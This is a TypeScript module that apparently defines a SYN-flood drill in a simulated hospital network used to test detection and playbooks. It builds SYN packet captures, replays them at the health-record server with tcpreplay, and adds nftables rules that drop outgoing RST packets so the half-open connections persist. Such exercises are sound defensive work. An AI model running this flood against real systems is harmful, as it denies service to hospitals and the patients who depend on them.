import { writeFileSync } from 'node:fs';
import { PLACES, routerMac } from '../hospital/places.ts';
import type { Drill } from './drill.ts';
import { synCapture } from './syn-frames.ts';
import { tool } from './talk.ts';

const REQUESTS = 300;
const FIRST_PORT = 1024;
const PORTS = 60_000;
const FILE = '/run/flood.pcap';
/** Its own kernel would refuse the answers, and so free the queue again; what comes back is counted. */
const RULES = `
table ip flood {
  chain out { type filter hook output priority 0; tcp flags & rst == rst drop; }
  chain in { type filter hook input priority 0; tcp flags & (syn|ack) == (syn|ack) counter; }
}`;

/** Requests to open a connection, without end: the queue of the record is full, and staff do not get in. */
export const flood: Drill = {
  id: 'flood',
  title: 'Flood of half-open connections on the health record',
  useCase: '7 DDoS on a regional hospital',
  from: PLACES.attacker,
  targets: [PLACES.record],
  mustDetect: /nobody completes|without end/i,
  playbooks: [/flooded/, /^Block addresses/, /^A weakness that can be reached/],
  steps: 30,
  everyMs: 1000,
  async step(number) {
    if (number === 0) await tool('nft', [RULES]);
    const ports = Array.from({ length: REQUESTS }, (_, at) => FIRST_PORT + ((number * REQUESTS + at) % PORTS));
    writeFileSync(FILE, synCapture(PLACES.attacker, PLACES.record, routerMac(PLACES.attacker.zone), 8080, ports));
    const before = await answers();
    await tool('tcpreplay', ['-q', '-i', 'eth0', '-p', String(REQUESTS), FILE]);
    return (await answers()) > before;
  },
};

async function answers(): Promise<number> {
  const { output } = await tool('nft', ['list', 'chain', 'ip', 'flood', 'in']);
  return Number(/packets (\d+)/.exec(output)?.[1] ?? 0);
}
